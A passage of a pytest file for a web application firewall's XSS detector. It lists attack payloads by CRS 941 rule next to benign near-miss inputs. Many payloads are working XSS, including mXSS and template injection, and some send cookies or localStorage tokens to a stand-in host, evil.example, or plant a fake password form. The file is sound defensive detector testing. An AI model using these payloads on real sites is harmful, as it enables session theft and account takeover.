        ('form', '<meta http-equiv=refresh content="0;url=data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoZG9jdW1lbnQuZG9tYWluKT4=">'),
        ('q', '<META HTTP-EQUIV="Content-Security-Policy" content="script-src \'unsafe-inline\'">'),
    ],
    'meta charset (941260)': [
        ('q', '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
        ('json', '<meta charset=x-imap4-modified-utf7>'),
    ],
    'link href (941270)': [
        ('cookie', '<link rel=stylesheet href=https://evil.example/x.css>'),
        ('form', '<link rel=import href="//evil.example/x.html">'),
        ('q', '<link rel=prefetch href=//evil.example/beacon>'),
    ],
    'base href (941280)': [
        ('ua', 'Mozilla/5.0 <base href="//evil.example/">'),
        ('form', '<BASE target=_blank href=https://evil.example/>'),
    ],
    'applet (941290)': [
        ('q', '<applet code=Evil.class codebase=//evil.example>'),
        ('json', '<APPLET archive=//evil.example/x.jar code=X>'),
    ],
    'object (941300)': [
        ('q', '<object type=text/x-scriptlet data=//evil.example/x.sct>'),
        ('form', '<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></OBJECT>'),
        ('q', '<object codebase=//evil.example/x.cab codetype=application/x-oleobject>'),
    ],
    'US-ASCII 7-bit (941310)': [
        ('q', '¼img src=x onerror=alert(1)¾'),
        ('form', '¼svg onload=alert(1)¾'),
    ],
    'UTF-7 (941350)': [
        ('q', '+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-'),
        ('form', '+ADw-svg/onload+AD0-alert(1)+AD4-'),
        ('cookie', '+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    ],
    'JSFuck / hieroglyphy (941360)': [
        ('q', '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]'),
        ('form', '_=({}+[])[!+[]+!+[]+!+[]+!+[]+!+[]]+(![]+[])[+!+[]]'),
        ('json', '(!+[]+[])[+!+[]]+(+{}+[])[+!+[]]'),
    ],
    'JS global access (941370)': [
        ('q', 'top[/al/.source+/ert/.source](1)'),
        ('form', 'self[`al`+`ert`](1)'),
        ('q', "window[atob('YWxlcnQ=')](1)"),
        ('cookie', "(document)['location']='//evil.example'"),
        ('q', "this/*x*/['ale'+'rt'](1)"),
        ('json', 'globalThis[String.fromCharCode(97,108,101,114,116)](1)'),
    ],
    'JS method call (941390)': [
        ('q', "';setTimeout('ale'+'rt(1)');//"),
        ('form', '"-new Function`alert\\`1\\``-"'),
        ('q', "x';new Image().src='//evil.example/?'+btoa(document.cookie);//"),
        ('json', "');import('//evil.example/x.mjs');//"),
        ('hdr', 'setInterval`alert\\x281\\x29`'),
        ('q', "eval.call`${'alert(1)'}`"),
    ],
    'call without parentheses (941400)': [
        ('q', '[].sort.call`${alert}1337`'),
        ('form', "Reflect.apply.call`${navigator.sendBeacon}${navigator}${['//evil.example',document.cookie]}`"),
        ('q', "['1'].map(alert)"),
        ('json', '[1].find(alert)'),
        ('form', 'onerror=prompt;throw document.domain'),
        ('q', "{onerror=eval}throw'=alert\\x281\\x29'"),
        ('q', "'+[document.cookie].forEach(alert)+'"),
    ],
    'disallowed attributes after breakout (941150)': [
        ('q', 'x" href="//evil.example'),
        ('form', "' style='position:fixed;inset:0;background:url(//evil.example/a.png)"),
        ('cookie', '" src=//evil.example/p.js x="'),
    ],
    'HTML tag after breakout (941320)': [
        ('q', '"></title><h1>Site hacked</h1>'),
        ('form', '</textarea><form action=//evil.example><input name=password type=password>'),
        ('q', "'></option></select><img src=x onerror=alert(1)>"),
    ],
    'IE filter string breakout (941330/941340)': [
        ('q', '";location=name;//'),
        ('form', '"-(valueOf=alert,this)+"'),
        ('q', "'|top.location.href='//evil.example'|'"),
        ('json', "';document.location='//evil.example/?'+document.cookie;'"),
    ],
    'Angular / Vue template (941380)': [
        ('q', "{{$on.constructor('alert(1)')()}}"),
        ('form', "{{constructor.constructor('alert(1)')()}}"),
        ('json', "{{[].pop.constructor('alert(1)')()}}"),
        ('q', '{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}'),
        ('q', "{{_c.constructor('alert(1)')()}}"),
        ('form', '<div v-html="\'\'.constructor.constructor(\'alert(1)\')()">a</div>'),
        ('q', "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}"),
        ('q', "{{toString().constructor.constructor('alert(1)')()}}"),
    ],
    'mXSS / nesting / entities': [
        ('q', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
        ('q', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        ('q', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
        ('form', '<a href=javascript&colon;prompt&lpar;1&rpar;>x</a>'),
        ('q', '<img src=x onerror="&#97;lert(1)">'),
        ('q', '\\u003csvg onload=alert(1)\\u003e'),
        ('b64', '<img src=x onerror=alert(1)>'),
        ('q', '<iframe srcdoc="<img src=x onerror=alert(1)>">'),
        ('form', '<object data="javascript:alert(1)">'),
        ('q', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>'),
    ],
    'no-op link / location / DOM near the new rules': [
        ('next', 'javascript:void(0);alert(document.cookie)'),
        ('q', '<a href="javascript:void(0)" onclick="alert(1)">x</a>'),
        ('next', "javascript:void(location='//evil.example')"),
        ('q', '\'-location="javascript:alert(1)"-\''),
        ('cookie', '";localStorage.token&&new Image().src=\'//evil.example/?t\'+localStorage.token;//'),
        ('json', "x');document.forms[0].action='//evil.example';//"),
        ('q', '"-document.getElementById(\'pw\').value-"'),
        ('form', 'x:e\\xpression(alert(1))'),
        ('q', '[!+[]+!+[]]+(!+[]+[])[+[]]'),
    ],
    "JS method after breakout / script URI in a URL's query (941390, 941101 Referer)": [
        ('q', "'-console.dir(document)-'"),
        ('form', "x'+btoa(localStorage.token)+'"),
        ('referer', 'https://shop.example/?next=javascript:alert(document.domain)'),
        ('referer', 'https://shop.example/login?a=1&return_to=java%0ascript:alert(1)'),
        ('referer', "https://shop.example/#redirect=javascript:top.location='//evil.example'"),
    ],
}
ROUND3_ATTACKS = [row for rows in ROUND3_CLASSES.values() for row in rows]
# Near-misses of the round-3 shapes: code talk naming the same APIs, template syntax a CMS stores, the no-op link,
# recipes with ¼/¾ (7-bit folding), `key="value"` notes, search Referers about JavaScript.
ROUND3_BENIGN = [
    ('q', 'how to use setTimeout in javascript'),
    ('q', 'eval function python'),
    ('q', 'console.log not working'),
    ('form', '<3 love this product'),
    ('form', 'Price < 20 and > 10'),
    ('q', 'fetch api example'),
    ('q', 'document.querySelector returns null'),
    ('q', 'element.parentNode.removeChild(element)'),
    ('q', 'style="color:red" not working'),
    ('form', 'The base href tag in angular index.html'),
    ('q', 'meta charset utf-8'),
    ('q', '{{ product.title }}'),
    ('form', 'Hello {{ customer.first_name }}, your order {{ order.name }} shipped'),
    ('q', '{{#each items}}{{this.name}}{{/each}}'),
    ('q', '[1,2,3].map(x => x*2)'),
    ('q', 'arr.sort((a,b)=>a-b)'),
    ('q', 'Reflect.apply docs'),
    ('form', '5/5 -- would buy again --> great'),
    ('q', '¼ cup sugar, ¾ cup flour'),
    ('form', '½ tsp salt, ¼ tsp pepper, ¾ cup milk'),
    ('q', 'onion=2kg'),
    ('form', 'online=true; onboarding=done'),
    ('cookie', 'onboarding_step=3'),
    ('q', 'xmlns:xlink="http://www.w3.org/1999/xlink"'),
    ('q', 'Reflect.apply.call explained'),
    ('q', '"hello".toUpperCase()'),
    ('q', "O'Reilly JavaScript: The Definitive Guide"),
    ('q', 'top 10 window cleaners'),
    ('q', 'self [help]'),
    ('form', 'name="John" location="NYC"'),
    ('q', 'ng-app directive tutorial'),
    ('q', 'v-html vs v-text'),
    ('q', 'angular {{ }} interpolation'),
    ('q', '[].concat(a, b)'),
    ('q', 'arr.forEach(console.log)'),
    ('q', 'the alert was sent to the team'),
    ('form', 'Set onerror handler in img tag?'),
    ('q', 'javascript: void(0)'),
    ('q', 'background: url(/img/bg.png)'),
    ('form', 'list-style-image: url("bullet.png")'),
    ('q', 'embed youtube video'),
    ('q', 'object oriented programming'),
    ('q', 'applet java deprecated'),
    ('form', 'he wrote: "location = Berlin" in the form'),
    ('q', "'Dr.' title"),
    ('q', '+ADw- utf-7 explained'),
    ('q', '1 + [] in javascript'),
    ('q', "typeof [] === 'object'"),
    ('form', 'Read more >> <b>Offer</b>'),
    ('q', 'x=1;y=2'),
    ('q', 'btoa vs atob'),
    ('q', 'new Function vs eval performance'),
    ('q', 'import()'),
    ('form', 'Our new iframe embed code is in the dashboard'),
    ('q', 'vmlframe ie'),
    ('q', '&#169; 2024 Shop'),
    ('q', 'Tom &amp; Jerry'),
    ('form', 'AT&T; Verizon'),
    ('q', '&lt;b&gt;bold&lt;/b&gt; escaping'),
    ('q', 'document.title'),
    ('json', "{{ 'hello' | upper }}"),
    ('q', '{{ price * 1.2 }}'),
    ('q', "['a','b'].join(',')"),
    ('form', 'Set-Cookie header meaning'),
    ('q', 'http-equiv refresh seo'),
    ('form', 'My onboarding = great, onsite = better'),
    ('q', 'data:image/png;base64,iVBORw0KGgo='),
    ('q', 'url(javascript) css'),
    ('q', 'Content-Security-Policy script-src'),
    ('q', 'the base of the tower'),
    ('q', 'JSFuck []()!+ explained'),
    ('form', 'I <3 [] brackets'),
    ('q', 'a[i] = b[j]'),
    ('q', 'mailto:sales@shop.example'),
    ('q', 'tel:+1-555-0100'),
    ('q', "this['key'] vs this.key"),
    ('q', "document.querySelector('#cart').addEventListener"),
    ('q', '"Add to cart" document.body'),
    ('form', "'localStorage' vs 'sessionStorage'"),
    ('form', 'He said "yes", document.body is empty'),
    ('q', 'C:\\Users\\me@corp\\docs'),
    ('q', '<a href="javascript:void(0)" class="btn">Menu</a>'),
    ('q', 'javascript:;'),
    ('form', 'new Image() constructor in javascript'),
    ('q', "it's document.body.scrollTop"),
    ('q', "location='home'"),
    ('q', 'node.parentNode.appendChild(child)'),
    ('q', 'session(expression) in R'),
    ('form', '\\section{Impression} latex'),
    ('q', '@media\\ screen'),
    ('q', "sessionStorage.getItem('cart')"),
    ('form', '"Hello" - new Image'),
    ('q', '+{} + [] = ?'),
    ('q', 'console.log("hello world")'),
    ('q', "'use strict'; console.log(x)"),
    ('q', "btoa('user:pass') basic auth"),
    ('form', '"Hello" said console.log'),
    ('referer', 'https://shop.example/docs?topic=javascript:void(0)'),
    ('referer', 'https://www.google.com/search?q=javascript+tutorial&oq=javascript'),
    ('referer', 'https://shop.example/?q=javascript:+the+good+parts'),
    ('referer', 'https://shop.example/?lang=javascript&level=beginner'),
    ('form', "Use {{ $t('welcome') }} for i18n in Vue"),  # round 9: no other detector flags it any more
]
# other detectors flag these (rfi data: URI, rce/php shapes); only XSS is held to silence here
ROUND3_BENIGN_XSS_ONLY = [
    ('q', 'data:text/plain,hello'),
    ('q', 'image/svg+xml;base64 mime type'),
    ('form', 'Filter: location = "New York" AND price < 100'),
]


def test_round3_sets_are_new_and_distinct():
    earlier = set(ATTACKS) | set(ROUND2_ATTACKS) | set(ROUND2_EXTRA) | set(FETCH_ATTACKS)
    assert all(len(rows) >= 2 for rows in ROUND3_CLASSES.values()) and len(ROUND3_CLASSES) >= 30
    assert len(set(ROUND3_ATTACKS)) == len(ROUND3_ATTACKS) >= 150 and not set(ROUND3_ATTACKS) & earlier
    assert len(set(ROUND3_BENIGN)) == len(ROUND3_BENIGN) >= 100
    assert not set(ROUND3_BENIGN) & (set(BENIGN) | set(ROUND2_BENIGN) | set(FETCH_BENIGN) | set(ROUND3_BENIGN_XSS_ONLY))


@pytest.mark.parametrize("value", ["?a=javascript" * 6000, "';" + "document.body " * 5000, "@\\" * 30000,
                                   "'" * 40000 + "localstorage", "x=" + "&q=script:" * 6000, "!+[]" * 16000])
def test_round3_shapes_stay_linear(value):
    t0 = time.process_time()
    xss.analyze(value)
    assert time.process_time() - t0 < 1.0


@pytest.mark.parametrize("value", ["javascript:void(0)", "javascript:;", "javascript: void(0);", "JavaScript:VOID(0)"])
def test_noop_link_is_not_a_script_uri(value):
    f = xss.analyze(value)
    assert f is None or f.score < THRESHOLD


@pytest.mark.parametrize("value", ["javascript:void(0);alert(1)", "javascript:void(location='//evil.example')", "javascript:"
                                   "void(0)//\nalert(1)"])
def test_noop_prefix_does_not_hide_code(value):
    f = xss.analyze(value)
    assert f is not None and f.score >= 0.9


# Round 6 (blind benign batch 2): MediaWiki's `<math>` holds LaTeX, not MathML. MathML's mutation XSS needs
# elements or attributes inside; a `<math>` whose next tag is its own `</math>` (attributes `display`/`chem` only)
# is markup around text. First pass on the code before the fix: 10 / 10 attacks caught, 7 / 7 benign flagged;
# after: 10 / 10, 0 / 7.
ROUND6_ATTACKS = [
    ("form", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("form", '<math href="javascript:alert(1)">click</math>'),
    ("form", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>'),
    ("form", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("form", "<math><style><img src=x onerror=alert(1)></style></math>"),
    ("form", '<math><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'),
    ("form", '<math display="block" onmouseover=alert(1)>x</math>'),
    ("form", "<math>&lt;img src=x onerror=alert(1)&gt;</math>"),
    ("form", '<math display="javascript:alert(1)"><mtext>x</mtext></math>'),
    ("q", "<math><a xlink:href=javascript:alert(1)>x"),
]
ROUND6_BENIGN = [
    ("form", "<math>E = mc^2</math>"), ("form", "The area is <math>\\pi r^2</math>."),
    ("form", '<math display="block">\\int_0^1 x^2\\,dx = \\tfrac{1}{3}</math>'),
    ("form", "<math>\\{x \\in \\mathbb{R} : x > 0\\}</math> is the positive reals."),
    ("form", "<math chem>\\ce{2H2 + O2 -> 2H2O}</math>"), ("json", "Euler: <math>e^{i\\pi} + 1 = 0</math>"),
    ("form", "<math>\\sqrt{a^2+b^2}</math> and <math>\\frac{a}{b}</math>"),
]


def test_round6_sets_are_new_and_distinct():
    earlier = set(ATTACKS) | set(ROUND2_ATTACKS) | set(ROUND3_ATTACKS)
    assert len(set(ROUND6_ATTACKS)) == len(ROUND6_ATTACKS) and not set(ROUND6_ATTACKS) & earlier
    assert len(set(ROUND6_BENIGN)) == len(ROUND6_BENIGN) and not set(ROUND6_BENIGN) & (set(BENIGN) | set(ROUND2_BENIGN) | set(ROUND3_BENIGN))


# Round 8 (blind benign 4): video, map and player embeds as rich-text editors store them. An iframe whose src is https on
# a well-known provider's embed path, with only presentational attributes, runs nothing in the site's origin; a
# look-alike host, a userinfo trick, another host, a script/data URI, an event handler or srcdoc keeps it a hit.
# Before the fix: 10 / 10 attacks caught, 8 / 8 benign flagged; after: 10 / 10, 0 / 8.
ROUND8_ATTACKS = [
    ("form", '<iframe src="https://www.youtube.com.evil.example/embed/x" width="560" height="315"></iframe>'),
    ("form", '<iframe src="https://youtube.com@evil.example/embed/x"></iframe>'),
    ("form", '<iframe src="https://www.youtube.com/embed/x" onload="alert(document.domain)"></iframe>'),
    ("form", '<iframe srcdoc="<b>hi</b>" src="https://www.youtube.com/embed/x"></iframe>'),
    ("form", '<iframe src="javascript:alert(1)//https://www.youtube.com/embed/x"></iframe>'),
    ("json", '<iframe src="https://evil.example/embed/x" width="560" height="315" frameborder="0" allowfullscreen></iframe>'),
    ("form", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="560"></iframe>'),
    ("form", '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="https://evil.example/"></iframe>'),
    ("form", '<iframe src="https://www.google.com/url?q=https://evil.example" width="600"></iframe>'),
    ("form", '<iframe src="https://player.vimeo.com/video/1&quot; onload=&quot;alert(1)"></iframe>'),
]
ROUND8_BENIGN = [
    ("form", '<p><iframe src="https://www.youtube-nocookie.com/embed/M7lc1UVf-VE?start=30" width="560" height="315" '
             'frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" '
             'referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></p>'),
    ("form", '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" '
             'src="https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/293&amp;color=%23ff5500"></iframe>'),
    ("json", '<iframe style="border-radius:12px" src="https://open.spotify.com/embed/playlist/37i9dQZF1DXcBWIGoYBM5M?utm_source=generator" '
             'width="100%" height="352" frameBorder="0" allowfullscreen="" allow="autoplay; clipboard-write; encrypted-media; '
             'fullscreen; picture-in-picture" loading="lazy"></iframe>'),
    ("form", '<div class="video-wrapper"><iframe src="https://player.vimeo.com/video/148751763" width="640" height="360" '
             'frameborder="0" webkitallowfullscreen mozallowfullscreen allowfullscreen></iframe></div>'),
    ("json", '<iframe src="https://www.google.com/maps/embed?pb=!1m14!1m8!1m3!1d9933.4!2d2.2945!3d48.8584" width="400" '
             'height="300" style="border:0" allowfullscreen="" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>'),
    ("multipart", '<iframe title="vimeo-player" src="https://player.vimeo.com/video/226053498?h=a1599a8ee9" width="640" '
                  'height="360" frameborder="0" allowfullscreen></iframe>'),
    ("form", '<figure class="wp-block-embed is-type-video"><div class="wp-block-embed__wrapper"><iframe title="How to bake bread" '
             'width="500" height="281" src="https://www.youtube.com/embed/abc123XYZ_0?feature=oembed" frameborder="0" '
             'allowfullscreen></iframe></div></figure>'),
    ("form", '<iframe src="https://www.dailymotion.com/embed/video/x8abc12" width="640" height="360" allowfullscreen></iframe>'),
]


def test_round8_sets_are_new_and_distinct():
    earlier = set(ATTACKS) | set(ROUND2_ATTACKS) | set(ROUND3_ATTACKS) | set(ROUND6_ATTACKS)
    assert len(set(ROUND8_ATTACKS)) == len(ROUND8_ATTACKS) and not set(ROUND8_ATTACKS) & earlier
    assert len(set(ROUND8_BENIGN)) == len(ROUND8_BENIGN) and \
        not set(ROUND8_BENIGN) & (set(BENIGN) | set(ROUND2_BENIGN) | set(ROUND3_BENIGN) | set(ROUND6_BENIGN))


# round 9 (blind benign 5): XML data documents whose fields share names with HTML elements (`<body>`, `<title>`,
# `<link>`), and SVG icons of shapes only; beside them the same shapes carrying a handler, script, foreignObject,
# a script link or animation, an outside reference, or markup after the drawing.
ROUND9_ATTACKS = [
    ('json', '<svg viewBox="0 0 24 24"><rect width="24" height="24" style="fill:url(https://evil.example/x.svg#p)"/></svg>'),
    ('form', '<note><body onload=alert(1)></body></note>'),
    ('form', '<note><to>x</to></title><script>alert(1)</script></note>'),
    ('json', '<data><link rel="import" href="https://evil.example/x.html"></data>'),
    ('form', '<note><body><svg onload=alert(1)></body></note>'),
    ('form', '<msg></textarea><img src=x onerror=alert(1)></msg>'),
    ('json', '<note><title></title><iframe src=javascript:alert(1)></iframe></note>'),
    ('form', '</title><body><h1>hi</h1>'),
    ('form', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16" onload="alert(1)"><path d="M0 0h16v16H0z"/></svg>'),
    ('json', '<svg viewBox="0 0 16 16"><script>alert(1)</script><path d="M0 0h16v16H0z"/></svg>'),
    ('form', '<svg viewBox="0 0 16 16"><foreignObject width="16" height="16"><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'),
    ('json', '<svg viewBox="0 0 16 16"><a href="javascript:alert(1)"><rect width="16" height="16"/></a></svg>'),
    ('form', '<svg viewBox="0 0 16 16"><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>'),
    ('json', '<svg viewBox="0 0 16 16"><a><rect width="16" height="16"/><set attributeName="href" to="javascript:alert(1)"/></a></svg>'),
    ('form', '<svg viewBox="0 0 16 16"><animate attributeName="href" values="javascript:alert(1)"/><path d="M0 0"/></svg>'),
    ('form', '<svg><path d="M0 0"/></svg><img src=x onerror=alert(1)>'),
    ('form', '<svg><style><img src=x onerror=alert(1)></style><path d="M0 0"/></svg>'),
    ('json', '<svg viewBox="0 0 16 16"><rect width="16" height="16" style="background:url(javascript:alert(1))"/></svg>'),
]
ROUND9_BENIGN = [
    ('json', '<svg viewBox="0 0 24 24"><path style="fill:#1d4ed8;stroke:none;fill-rule:evenodd" d="M12 2 2 22h20z"/></svg>'),
    ('form', '<message><title>Build failed</title><body>Pipeline 42 failed on main</body></message>'),
    ('json', '<?xml version="1.0" encoding="UTF-8"?><email><to>ops@example.com</to><subject>Weekly report</subject><body>See the attached figures.</body></email>'),
    ('form', '<item><title>Release 2.1</title><link>https://example.com/releases/2.1</link><description>Bug fixes</description></item>'),
    ('multipart', '<memo>\n  <from>HR</from>\n  <head>Holiday schedule</head>\n  <body>The office is closed on Friday.</body>\n</memo>'),
    ('json', '<post id="17"><title lang="en">Hello</title><body format="text">First post</body></post>'),
    ('form', '<ticket><html>false</html><body>Printer on floor 3 jams</body></ticket>'),
    ('json', '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2"><circle cx="12" cy="12" r="10"/><line x1="12" y1="8" x2="12" y2="12"/></svg>'),
    ('form', '<svg viewBox="0 0 20 20" aria-hidden="true" class="icon"><title>Close</title><g fill="currentColor"><rect x="2" y="9" width="16" height="2" rx="1" transform="rotate(45 10 10)"/></g></svg>'),
    ('json', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"><defs><linearGradient id="g"><stop offset="0" stop-color="#4f46e5"/><stop offset="1" stop-color="#06b6d4"/></linearGradient></defs><rect width="100" height="100" fill="url(#g)"/><use xlink:href="#g"/></svg>'),
    ('multipart', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32"><polygon points="16,2 20,12 30,12 22,19 25,30 16,23 7,30 10,19 2,12 12,12" style="fill:#fc0;stroke:#333"/></svg>'),
    ('q', '<svg height="8" width="8"><ellipse cx="4" cy="4" rx="4" ry="3" fill-opacity="0.5"/></svg>'),
    ('json', '<p>Status: <svg class="dot" viewBox="0 0 8 8"><circle cx="4" cy="4" r="4" fill="#22c55e"></circle></svg> online</p>'),
]


def test_round9_sets_are_new_and_distinct():
    earlier = set(ATTACKS) | set(ROUND2_ATTACKS) | set(ROUND3_ATTACKS) | set(ROUND6_ATTACKS) | set(ROUND8_ATTACKS)
    assert len(set(ROUND9_ATTACKS)) == len(ROUND9_ATTACKS) and not set(ROUND9_ATTACKS) & earlier
    assert len(set(ROUND9_BENIGN)) == len(ROUND9_BENIGN) and not set(ROUND9_BENIGN) & \
        (set(BENIGN) | set(ROUND2_BENIGN) | set(ROUND3_BENIGN) | set(ROUND6_BENIGN) | set(ROUND8_BENIGN))

# rounds 1 (free-form), 2 (one class per CRS 3.3.4 rule) and 3 (CRS 4.25's 941 file as the checklist) are kept apart
# above to report first-pass numbers per round; they run through one attack and one benign test
_ALL_ATTACKS = [(f"{i}-{c}", c, v) for i, (c, v) in enumerate(ATTACKS)] + \
    [(f"r2-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND2_ATTACKS)] + \
    [(f"r3-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND3_ATTACKS)] + \
    [(f"r6-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND6_ATTACKS)] + \
    [(f"r8-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND8_ATTACKS)] + \
    [(f"r9-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND9_ATTACKS)]
_ALL_BENIGN = [(f"{i}-{c}", c, v) for i, (c, v) in enumerate(BENIGN)] + \
    [(f"r2b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND2_BENIGN)] + \
    [(f"r3b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND3_BENIGN)] + \
    [(f"r6b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND6_BENIGN)] + \
    [(f"r8b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND8_BENIGN)] + \
    [(f"r9b-{i}-{c}", c, v) for i, (c, v) in enumerate(ROUND9_BENIGN)]
_XSS_ONLY = ROUND2_BENIGN_XSS_ONLY + ROUND3_BENIGN_XSS_ONLY


@pytest.mark.parametrize("carrier,value", [(c, v) for _, c, v in _ALL_ATTACKS], ids=[i for i, _, _ in _ALL_ATTACKS])
def test_wild_xss_is_caught(engine, carrier, value):
    hits = engine.inspect(build(carrier, value))
    assert verdict(hits) == "attack" and _xss_score(hits) >= THRESHOLD, hits


@pytest.mark.parametrize("carrier,value", [(c, v) for _, c, v in _ALL_BENIGN], ids=[i for i, _, _ in _ALL_BENIGN])
def test_benign_near_miss_is_clean(engine, carrier, value):
    hits = engine.inspect(build(carrier, value))
    assert verdict(hits) == "clean", hits


@pytest.mark.parametrize("carrier,value", _XSS_ONLY, ids=[f"x-{i}-{c}" for i, (c, _) in enumerate(_XSS_ONLY)])
def test_benign_near_miss_raises_no_xss_though_another_detector_fires(engine, carrier, value):
    hits = engine.inspect(build(carrier, value))
    assert _xss_score(hits) < THRESHOLD
    # the list stays honest: a value no other detector flags any more belongs in a BENIGN list
    assert verdict(hits) == "attack", f"{value!r} is clean now: move it to a BENIGN list"
